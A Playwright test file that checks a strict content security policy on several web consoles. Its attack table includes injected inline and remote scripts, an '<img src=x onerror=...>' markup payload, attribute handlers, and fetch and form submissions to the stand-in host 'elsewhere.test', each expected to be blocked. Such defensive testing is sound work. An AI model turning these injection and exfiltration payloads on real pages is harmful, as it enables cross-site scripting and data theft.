/** The strict policy as the browser keeps it: what is planted is refused, and the console itself never offends. */
import { expect, type Page, test } from 'playwright/test'
import { addresses, signIn, watchFaults } from '../../support/console'

const consoles = [
  ['backOffice', '/login', 'bo.viewer'],
  ['superAgent', '/login', 'sa.viewer'],
  ['monitor', '/monitor', 'ops.admin'],
] as const

/** Does what an intruder would do in the page, and says whether it took effect. */
const attacks: Record<string, (page: Page) => Promise<boolean>> = {
  'an inline script': (page) =>
    page.evaluate(() => {
      const script = document.createElement('script')
      try {
        script.append('document.title = "intruded"')
        document.head.append(script)
      } catch {
        return false
      }
      return document.title === 'intruded'
    }),
  'a script from elsewhere': (page) =>
    page.evaluate(
      () =>
        new Promise<boolean>((done) => {
          const script = document.createElement('script')
          script.addEventListener('load', () => done(true))
          script.addEventListener('error', () => done(false))
          try {
            script.src = 'https://elsewhere.test/intruder.js'
            document.head.append(script)
          } catch {
            done(false)
          }
        }),
    ),
  // The debugger may evaluate text; what the page itself schedules may not.
  'text turned into code': (page) =>
    page.evaluate(async () => {
      setTimeout(() => {
        try {
          new Function('document.title = "intruded"')()
        } catch {
          document.documentElement.dataset.refused = ''
        }
      }, 0)
      await new Promise((done) => setTimeout(done, 50))
      return document.documentElement.dataset.refused === undefined
    }),
  'text turned into markup': (page) =>
    page.evaluate(() => {
      const box = document.createElement('div')
      try {
        box.innerHTML = '<img src=x onerror="document.title=1">'
      } catch {
        return false
      }
      return box.childElementCount > 0
    }),
  'a handler in markup': (page) =>
    page.evaluate(() => {
      const button = document.createElement('button')
      try {
        button.setAttribute('onclick', 'document.title = "intruded"')
        button.click()
      } catch {
        return false
      }
      return document.title === 'intruded'
    }),
  'a style element without the nonce': (page) =>
    page.evaluate(() => {
      const style = document.createElement('style')
      style.append('body { outline: 7px solid red !important }')
      document.head.append(style)
      return getComputedStyle(document.body).outlineWidth === '7px'
    }),
  'news sent to a stranger': (page) =>
    page.evaluate(() =>
      fetch('https://elsewhere.test/take', { method: 'POST', mode: 'no-cors' }).then(
        () => true,
        () => false,
      ),
    ),
  'a form sent to a stranger': (page) =>
    page.evaluate(async () => {
      const before = location.href
      const form = document.createElement('form')
      form.action = 'https://elsewhere.test/take'
      document.body.append(form)
      form.submit()
      await new Promise((done) => setTimeout(done, 200))
      return location.href !== before
    }),
}

for (const [what, attack] of Object.entries(attacks)) {
  test(`${what} is refused and reported`, async ({ page, context }) => {
    const faults = watchFaults(context)
    await page.goto(`${addresses.backOffice}/login`)
    await expect(page.getByLabel('Username')).toBeVisible()
    expect(faults).toEqual([])
    expect(await attack(page)).toBe(false)
    await expect.poll(() => faults.length).toBeGreaterThan(0)
  })
}

for (const [place, path, user] of consoles) {
  test(`the good twin: ${place} signs people in and draws its page without a report`, async ({ page, context }) => {
    const faults = watchFaults(context)
    await signIn(page, place, user)
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
    await page.waitForLoadState('networkidle')
    expect(faults).toEqual([])
  })

  test(`nobody can put ${place} into a frame`, async ({ page }) => {
    await page.setContent(`<iframe src="${addresses[place]}${path}"></iframe>`)
    await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/')
    await expect(page.frameLocator('iframe').getByLabel('Username')).toHaveCount(0)
  })
}

test('the reference of the API is drawn, and runs no script', async ({ page, context }) => {
  const faults = watchFaults(context)
  await page.goto(`${addresses.api}/api/v1/reference`)
  await expect(page.getByRole('heading', { level: 1 })).toContainText('DCIR platform API')
  expect(await page.locator('article').count()).toBeGreaterThan(10)
  expect(await page.locator('body').evaluate((body) => getComputedStyle(body).maxWidth)).toBe('960px')
  expect(faults).toEqual([])
})
